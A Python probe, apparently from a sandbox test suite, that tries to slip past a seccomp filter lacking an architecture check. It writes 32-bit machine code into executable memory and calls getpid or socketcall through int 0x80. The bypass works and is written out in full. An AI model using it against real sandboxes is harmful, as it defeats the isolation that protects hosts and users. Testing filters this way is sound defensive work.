"""Call the kernel by its 32-bit ABI, whose numbers mean other calls than the filter believes.

Source: seccomp(2) Notes; security.md section 2 rows "no arch check", "socketcall/ipc
multiplexers".
"""

from __future__ import annotations

ROUTES = ("getpid", "socketcall")
NEEDS = "an x86-64 kernel with IA32 emulation"


def attempt(canary: dict[str, str]) -> str | None:
    import ctypes
    import mmap
    import os

    if os.uname().machine != "x86_64":
        raise OSError("no other ABI on this architecture")
    low = 0x40  # MAP_32BIT: the arguments of socketcall must lie below 4 GiB
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | low
    memory = mmap.mmap(
        -1, 4096, flags=flags, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    )
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    if canary["route"] == "getpid":
        code = bytes.fromhex("b814000000cd80c3")  # mov eax, 20; int 0x80; ret
    else:
        words = address + 64
        memory[64:76] = b"".join(word.to_bytes(4, "little") for word in (2, 1, 0))
        # push rbx; mov eax, 102; mov ebx, SYS_SOCKET; mov ecx, words; int 0x80; pop rbx; ret
        code = bytes.fromhex("53b866000000bb01000000b9") + words.to_bytes(4, "little")
        code += bytes.fromhex("cd805bc3")
    memory[: len(code)] = code
    result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return f"32-bit {canary['route']} answered {result}"
